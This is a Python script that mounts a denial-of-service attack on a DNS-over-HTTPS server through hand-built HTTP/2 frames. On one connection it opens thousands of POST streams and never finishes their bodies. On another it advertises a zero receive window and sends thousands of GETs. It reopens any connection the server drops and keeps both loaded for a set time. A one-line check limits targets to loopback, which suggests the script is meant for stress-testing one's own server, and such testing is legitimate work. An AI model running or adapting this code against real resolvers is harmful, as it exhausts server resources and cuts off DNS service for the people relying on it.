#!/usr/bin/env python3
"""DoH abuse: two HTTP/2 connections to one DoH server, written frame by frame.

  doh_abuse.py --target 127.0.0.1:4430 --streams 10000 --seconds 10

One connection opens --streams POST streams whose bodies never finish (HEADERS, then 5
bytes of DATA without END_STREAM); the other sets its receive window to 0 and sends
--streams GETs, whose answers the server can never send. Streams the server refuses are
ignored, and a connection the server closes is opened again, until every stream has been
sent; then both stay open until --seconds have passed. Loopback only. Prints what was sent
and what the server did (resets, GOAWAYs, reconnections).
"""
import argparse
import base64
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# www.example.test A, id 0, RD.
QUERY = bytes.fromhex("000001000001000000000000037777770765786d706c6504746573740000010001")


class Connection:
    def __init__(self, host, port, window_zero):
        self.host, self.port, self.window_zero = host, port, window_zero
        self.resets = self.goaways = self.reconnects = 0
        self.open()

    def open(self):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((self.host, self.port), timeout=5)
        self.sock = context.wrap_socket(raw, server_hostname="attack.invalid")
        self.sock.settimeout(2)
        self.encoder = hpack.Encoder()
        self.next_id = 1
        self.inbox = b""
        settings = SettingsFrame(0)
        if self.window_zero:
            settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
        self.sock.sendall(PREFACE + settings.serialize())

    def reopen(self):
        self.reconnects += 1
        try:
            self.sock.close()
        except OSError:
            pass
        self.open()

    def headers(self, method, path, end_stream):
        fields = [(":method", method), (":scheme", "https"), (":authority", self.host),
                  (":path", path), ("content-type", "application/dns-message"),
                  ("accept", "application/dns-message")]
        frame = HeadersFrame(self.next_id)
        frame.data = self.encoder.encode(fields)
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame

    def send_batch(self, count, post):
        """Sends `count` new streams; False if the server closed the connection."""
        out = b""
        for _ in range(count):
            if post:
                out += self.headers("POST", "/dns-query", False).serialize()
                data = DataFrame(self.next_id)
                data.data = QUERY[:5]
                out += data.serialize()
            else:
                dns = base64.urlsafe_b64encode(QUERY).rstrip(b"=").decode()
                out += self.headers("GET", "/dns-query?dns=" + dns, True).serialize()
            self.next_id += 2
        try:
            self.sock.sendall(out)
        except (OSError, ssl.SSLError):
            return False
        return self.drain()

    def drain(self):
        """Reads what the server sent without waiting long; False once it closed."""
        self.sock.settimeout(0.001)
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    return False
                self.inbox += chunk
                self.parse()
        except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
            return True
        except (OSError, ssl.SSLError):
            return False
        finally:
            self.sock.settimeout(2)

    def parse(self):
        while len(self.inbox) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbox[:9]))
            if len(self.inbox) < 9 + length:
                return
            if isinstance(frame, RstStreamFrame):
                self.resets += 1
            elif isinstance(frame, GoAwayFrame):
                self.goaways += 1
            self.inbox = self.inbox[9 + length:]


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True)
    parser.add_argument("--streams", type=int, default=10000)
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    if not host.startswith("127."):
        sys.exit("doh_abuse: loopback addresses only")
    start = time.monotonic()
    conns = {True: Connection(host, int(port), False), False: Connection(host, int(port), True)}
    sent = {True: 0, False: 0}
    while min(sent.values()) < args.streams and time.monotonic() - start < args.seconds:
        for post, conn in conns.items():
            batch = min(100, args.streams - sent[post])
            if batch <= 0:
                continue
            if not conn.send_batch(batch, post):
                conn.reopen()
                continue
            sent[post] += batch
    while time.monotonic() - start < args.seconds:
        for conn in conns.values():
            if not conn.drain():
                conn.reopen()
        time.sleep(0.05)
    for post, conn in conns.items():
        kind = "POST unfinished" if post else "GET window 0"
        print(f"doh_abuse: {kind}: streams={sent[post]} resets={conn.resets} "
              f"goaways={conn.goaways} reconnections={conn.reconnects}", flush=True)


if __name__ == "__main__":
    main()
